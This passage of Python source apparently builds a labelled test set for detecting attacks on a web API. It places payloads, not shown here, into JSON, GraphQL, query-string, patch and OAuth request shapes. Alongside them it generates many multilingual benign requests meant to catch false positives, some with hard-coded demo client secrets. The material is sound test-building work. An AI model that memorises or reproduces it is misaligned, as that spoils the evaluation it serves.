    doc = {"grant_type": "client_credentials", "client_id": "svc-reporting", "client_secret": "s3cr3t-d3m0",
           "scope": p}
    return _doc("POST", "/oauth/token", doc, i)


PLACEMENTS: list[tuple[str, Placement]] = [
    ("json-deep-value", _p_json_deep), ("json-array", _p_json_array), ("json-key", _p_json_key),
    ("json-number-as-string", _p_json_numstr), ("graphql-variables", _p_graphql_var),
    ("graphql-query", _p_graphql_query), ("jsonapi-body", _p_jsonapi_body), ("jsonapi-filter", _p_jsonapi_filter),
    ("query-sort", _p_query_sort), ("query-fields-include", _p_query_fields), ("query-search", _p_query_search),
    ("path-segment", _p_path), ("merge-patch", _p_merge_patch), ("json-patch", _p_json_patch),
    ("json-unicode-escaped", _p_json_escaped), ("json-whitespace", _p_json_spaced),
    ("json-duplicate-key", _p_json_dupkey), ("oauth-token", _p_oauth),
]


def attacks() -> Iterator[dict[str, Any]]:
    n_place = len(PLACEMENTS)
    serial = 0
    for category, payloads in FAMILIES:
        count = 0
        for sub, payload in payloads:
            for k in range(3):
                place, build = PLACEMENTS[(serial + 7 * k) % n_place]
                count += 1
                rec = build(payload, serial + k)
                rec.update({"id": f"{NAME}-{category}-{count:04d}", "category": category, "placement": place,
                            "sub": sub, "payload": _text(payload)})
                yield rec
            serial += 1


# --------------------------------------------------------------------------------------------------- benign
TEXTS: list[str] = [
    "Hi! I'm Zoë, a backend dev in Lisbon. Coffee > tea, always.",
    "Ich arbeite im Team „Plattform“ und bin montags selten erreichbar.",
    "Je suis responsable produit chez une PME à Lyon — n'hésitez pas à m'écrire.",
    "こんにちは、東京でデザイナーをしています。週末は山登り。",
    "Привет! Работаю в поддержке, отвечаю с 9 до 18 по Москве.",
    "مرحبا، أنا مهندس بيانات في دبي وأحب القهوة.",
    "שלום, אני מפתחת בתל אביב ואוהבת לרוץ בבוקר.",
    "你好，我在上海做运维，喜欢跑步和摄影。",
    "안녕하세요, 서울에서 QA 엔지니어로 일합니다.",
    "Olá! Trabalho com suporte ao cliente em São Paulo.",
    "Hola, soy Íñigo; llevo el equipo de pagos en Bilbao & Madrid.",
    "Cześć! Zajmuję się testami w Krakowie.",
    "Merhaba, İstanbul'da mobil geliştiriciyim.",
    "Γεια σας, δουλεύω ως σχεδιαστής στην Αθήνα.",
    "नमस्ते, मैं बेंगलुरु में डेवलपर हूँ।",
    "Xin chào, tôi là kỹ sư phần mềm ở Hà Nội.",
    "Hej! Jag jobbar med infrastruktur i Göteborg.",
    "Dobrý den, pracuji v Brně jako analytik.",
    "สวัสดีครับ ทำงานที่กรุงเทพฯ ครับ",
    "C'est l'été ! On se retrouve à l'hôtel « Le Grand » vers 19h.",
    "Don't ping me after 6pm unless prod's on fire.",
    "Rock & roll fan; \"Abbey Road\" on repeat.",
    "Q&A sessions every Thursday — bring questions!",
    "Temperature alerts when it's < 0°C or > 30°C, please.",
    "Use the 'metric' units; my team's in Oslo & Bergen.",
    "I said \"maybe later\" to the survey, not \"never\".",
    "Budget: $1,200 per quarter (approx.) for tools & licences.",
    "Favourite quote: 'The best way out is always through.' — Robert Frost",
    "Rule of thumb: latency < 200 ms and error rate < 1%.",
    "Tip: press <Enter> to send, <Shift>+<Enter> for a new line.",
    "Ops on-call rota: Mon–Wed me, Thu–Sun Priya.",
    "Where's the 2024 report? I can't find it on the wiki.",
    "Please select the best option from the list and update your profile.",
    "Drop me a line if the table in the weekly report looks off.",
    "We're hiring: 2 backend devs (Python/Go) & 1 designer.",
    "5 stars ★★★★★ — would recommend to anyone who's into hiking.",
    "Launch day! 🎉🚀 Thanks everyone.",
    "Call me at +44 20 7946 0958 (office) or e-mail j.oneil@example.co.uk",
    "If x > 3 and y < 5 then the chart shows the orange line.",
    "Attendees: Ana, Bo & Chen; agenda in the doc (see 'Q3 planning').",
    "Back on Monday at 9:00 — out at the dentist's until then.",
    "Team lunch at Joe's Diner, 12:30, table for 8 (booked under \"Lima\").",
    "Allergic to peanuts & shellfish; vegetarian options are fine.",
    "My cat's name is Mr. Whiskers and he runs the household.",
    "Prefer async: Slack > e-mail > meetings.",
    "Studied at Université de Montréal; now in Zürich.",
    "50% remote, 50% office — Tuesdays and Thursdays in.",
    "Reminder: order more paper for the 3rd-floor printer.",
    "Reading list: \"Designing Data-Intensive Applications\", \"The Pragmatic Programmer\".",
    "Weather in Reykjavík is wild — wind + rain + sun within an hour.",
    "Time zone: UTC+05:30 (India), available 10:00–19:00.",
    "Parent of two; school run 8–8:30 so mornings are slow.",
    "Maintainer of a small open-source library for parsing CSV files.",
    "Runs the book club; this month: 'One Hundred Years of Solitude'.",
    "https://en.wikipedia.org/wiki/Lisbon",
    "https://github.com/psf/requests",
    "https://www.bbc.co.uk/weather/2643743",
    "https://docs.python.org/3/library/json.html",
    "https://www.openstreetmap.org/#map=12/38.72/-9.14",
    "https://example.com/avatars/zoe.png?size=128&v=3",
    "https://maps.google.com/?q=Eiffel+Tower",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://www.linkedin.com/in/ana-lima-12345/",
    "https://calendar.google.com/calendar/embed?src=team%40example.com&ctz=Europe%2FLisbon",
    "Ana Lima",
    "María José O'Connor-García",
    "Jean-Luc D'Arcy",
    "ana.lima+alerts@example.org",
    "Europe/Lisbon",
    "America/Sao_Paulo",
]

TAGS = [["ops", "on-call"], ["design", "ux", "figma"], ["backend", "python", "postgres"], ["support", "tier-2"],
        ["mobile", "ios", "android"], ["data", "dbt", "looker"], ["security", "compliance"], ["qa", "automation"],
        ["sales", "emea"], ["finance", "q3-close"], ["c++", "embedded"], ["r&d", "ml"], ["front-end", "react"],
        ["日本語", "東京"], ["français", "paris"], ["remote", "async-first"]]

SETTINGS: list[dict[str, Any]] = [
    {"units": "metric", "alert_time": "07:30", "timezone": "Europe/Lisbon", "alerts": True},
    {"units": "imperial", "alert_time": "06:45", "timezone": "America/New_York", "alerts": False},
    {"units": "metric", "timezone": "Asia/Tokyo"},
    {"alerts": True},
    {"alert_time": "08:00"},
    {"units": "metric", "alert_time": "09:15", "timezone": "Australia/Sydney", "alerts": True},
    {"timezone": "America/Argentina/Buenos_Aires", "units": "metric"},
    {"units": "imperial", "alerts": True, "alert_time": "05:30"},
    {"timezone": "Europe/Berlin", "alerts": False},
    {"timezone": "Asia/Kolkata", "alert_time": "10:00", "units": "metric"},
]

SEARCHES: list[list[tuple[str, str]]] = [
    [("team_id", "T024BE7LD"), ("active", "true"), ("limit", "50"), ("offset", "100")],
    [("alerts", "true"), ("limit", "200")],
    [("search", "o'neil")],
    [("search", "María José")],
    [("search", "ana@example.org")],
    [("filter[name]", "Zoë"), ("sort", "-created_at,name")],
    [("fields[users]", "id,name,email"), ("include", "settings")],
    [("sort", "name"), ("page[number]", "3"), ("page[size]", "25")],
    [("filter[is_active]", "true"), ("filter[team_id]", "T0G9PQBBK")],
    [("q", "weather alerts & reminders")],
    [("search", "Q&A")],
    [("search", "rock & roll")],
    [("search", "\"exact phrase\"")],
    [("search", "東京")],
    [("search", "<Enter> key")],
    [("search", "select all")],
    [("search", "50% off")],
    [("filter[created_at][gte]", "2024-05-01"), ("filter[created_at][lt]", "2024-06-01")],
    [("sort", "-updated_at"), ("fields[users]", "name"), ("limit", "10")],
    [("active", "false"), ("alerts", "off"), ("offset", "0")],
    [("search", "D'Arcy"), ("sort", "name")],
    [("q", "north & south teams, 2024/25")],
    [("include", "settings,switches"), ("sort", "email")],
    [("search", "Иван Петров")],
    [("filter[tags]", "on-call,ops")],
]

STATS = [
    [("since", "2024-05-01T00:00:00Z"), ("until", "2024-05-31T23:59:59Z")],
    [("since", "2024-06-10T08:00:00+02:00")],
    [("until", "2024-01-01T00:00:00Z"), ("since", "2023-12-01T00:00:00Z")],
    [("since", "2024-03-15")],
    [],
]

GRAPHQL = [
    ("query ListUsers($first: Int, $after: String) { users(first: $first, after: $after) { edges { node { id name "
     "email } } pageInfo { hasNextPage endCursor } } }", {"first": 20, "after": "YXJyYXljb25uZWN0aW9uOjE5"}),
    ("query Me { me { id name settings { units timezone alertTime } } }", {}),
    ("mutation UpdateProfile($input: ProfileInput!) { updateProfile(input: $input) { id name } }",
     {"input": {"name": "Zoë Martins", "bio": "Coffee > tea; \"always\" & forever."}}),
    ("query Search($q: String!) { search(query: $q, types: [USER]) { ... on User { id name } } }",
     {"q": "o'neil"}),
    ("fragment UserParts on User { id name email isActive }\nquery Team($team: ID!) { team(id: $team) "
     "{ members { ...UserParts } } }", {"team": "T024BE7LD"}),
    ("mutation Toggle($action: String!, $on: Boolean!) { setSwitch(action: $action, enabled: $on) "
     "{ action enabled } }", {"action": "weather", "on": True}),
    ("query Usage($since: DateTime, $until: DateTime) { usageStats(since: $since, until: $until) "
     "{ total byAction { name count } } }", {"since": "2024-05-01T00:00:00Z", "until": "2024-06-01T00:00:00Z"}),
    ("query { users(filter: {name: \"Ana\"}, orderBy: {field: CREATED_AT, direction: DESC}) { totalCount } }", {}),
    ("mutation AddTag($id: ID!, $tag: String!) { addTag(userId: $id, tag: $tag) { id tags } }",
     {"id": "42", "tag": "r&d"}),
    ("query Profile($id: ID!) { user(id: $id) { id name bio avatarUrl } }", {"id": "118"}),
    ("query IntrospectionLite { __schema { queryType { name } } }", {}),
    ("mutation Note($text: String!) { addNote(text: $text) { id } }",
     {"text": "Le déploiement est prévu à 18h ; merci d'éviter les merges après 17h."}),
]


def _benign_placements() -> list[tuple[str, Placement]]:
    keep = {"json-deep-value", "json-array", "graphql-variables", "jsonapi-body", "jsonapi-filter",
            "query-search", "merge-patch", "json-patch", "json-unicode-escaped", "json-whitespace",
            "json-duplicate-key"}
    return [(name, fn) for name, fn in PLACEMENTS if name in keep]


def benign() -> Iterator[dict[str, Any]]:
    counters: dict[str, int] = {}

    def tag(rec: dict[str, Any], kind: str, placement: str) -> dict[str, Any]:
        counters[kind] = counters.get(kind, 0) + 1
        rec.update({"id": f"{NAME}-benign-{kind}-{counters[kind]:04d}", "category": "benign",
                    "placement": placement, "sub": kind})
        return rec

    places = _benign_placements()
    # free text in the same places the attacks used (3 each)
    for n, text in enumerate(TEXTS):
        for k in range(3):
            name, build = places[(n + 4 * k) % len(places)]
            yield tag(build(text, n + k), "text", name)
    # profiles: a whole PATCH with name, email and settings
    for n, text in enumerate(TEXTS[:40]):
        doc = {"name": TEXTS[64 + n % 3], "email": f"user{n}@example.org",
               "settings": {**SETTINGS[n % len(SETTINGS)], "bio": text, "tags": TAGS[n % len(TAGS)]}}
        if n % 2:
            yield tag(_doc("PATCH", f"/api/users/{_uid(n)}", doc, n, "application/merge-patch+json"), "profile",
                      "merge-patch")
        else:
            yield tag(_doc("PATCH", f"/api/users/{_uid(n)}", doc, n), "profile", "json-body")
    # settings objects and tag arrays
    for n, settings in enumerate(SETTINGS):
        yield tag(_doc("PATCH", f"/api/users/{_uid(n)}", {"settings": settings}, n), "settings", "json-body")
        yield tag(_raw("PATCH", f"/api/users/{_uid(n + 1)}", _escaped({"settings": settings}), n), "settings",
                  "json-unicode-escaped")
    for n, tags in enumerate(TAGS):
        doc = {"settings": {"tags": tags, "links": [TEXTS[54 + n % 10]]}}
        yield tag(_doc("PATCH", f"/api/users/{_uid(n)}", doc, n), "tags", "json-array")
    # JSON patch documents
    for n, settings in enumerate(SETTINGS):
        ops: list[dict[str, Any]] = [{"op": "test", "path": "/name", "value": TEXTS[64 + n % 3]}]
        ops += [{"op": "replace", "path": f"/settings/{k}", "value": v} for k, v in settings.items()]
        ops += [{"op": "add", "path": "/settings/tags/-", "value": TAGS[n][0]},
                {"op": "remove", "path": "/settings/legacy~1units"},
                {"op": "copy", "from": "/settings/timezone", "path": "/settings/home_timezone"}]
        yield tag(_doc("PATCH", f"/api/users/{_uid(n)}", ops, n, "application/json-patch+json"), "json-patch",
                  "json-patch")
    for n in range(8):
        doc2: dict[str, Any] = {"is_active": n % 3 != 0, "name": TEXTS[64 + n % 3]}
        if n % 2:
            doc2["is_admin"] = False
        yield tag(_doc("PATCH", f"/api/users/{_uid(n)}", doc2, n, "application/merge-patch+json"), "merge-patch",
                  "merge-patch")
    # collection searches and stats
    for n, params in enumerate(SEARCHES):
        yield tag(_get(_query("/api/users", params), n), "search", "query")
        yield tag(_get(_query("/api/users", [*params, ("page[size]", "50")]), n + 3), "search", "query")
    for n, params in enumerate(STATS):
        uri = _query("/api/usage/stats", params) if params else "/api/usage/stats"
        yield tag(_get(uri, n), "stats", "query")
    for n in range(6):
        yield tag(_get(f"/api/users/{_uid(n)}", n), "get", "path")
        yield tag(_get("/api/switches", n), "get", "path")
    # GraphQL documents
    for n, (query, variables) in enumerate(GRAPHQL):
        doc3: dict[str, Any] = {"query": query}
        if variables:
            doc3["variables"] = variables
        if n % 3 == 0:
            doc3["operationName"] = query.split("(")[0].split("{")[0].split()[-1]
        yield tag(_doc("POST", "/api/graphql", doc3, n), "graphql", "graphql")
        yield tag(_raw("POST", "/api/graphql", _escaped(doc3), n + 1), "graphql", "json-unicode-escaped")
        yield tag(_raw("POST", "/api/graphql", _spaced(doc3), n + 2), "graphql", "json-whitespace")
    # switches
    for n in range(15):
        doc4: dict[str, Any] = {"enabled": n % 2 == 0}
        if n % 3:
            doc4["team_id"] = ["T024BE7LD", "*", "T0G9PQBBK"][n % 3]
        yield tag(_doc("PUT", f"/api/switches/{_action(n)}", doc4, n), "switch", "json-body")
    # token requests
    for n in range(10):
        scope = ["read", "write", "read write"][n % 3]
        if n % 2:
            fields = [("grant_type", "client_credentials"), ("client_id", f"svc-reporting-{n}"),
                      ("client_secret", f"kq8Jd-{n}x_4LmZ0pQw"), ("scope", scope)]
            yield tag(_raw("POST", "/oauth/token", urllib.parse.urlencode(fields), n,
                           "application/x-www-form-urlencoded"), "oauth", "form")
        else:
            doc5 = {"grant_type": "client_credentials", "client_id": f"mobile-app-{n}",
                    "client_secret": f"Zt7-{n}aa91_Qe", "scope": scope}
            yield tag(_doc("POST", "/oauth/token", doc5, n), "oauth", "json-body")
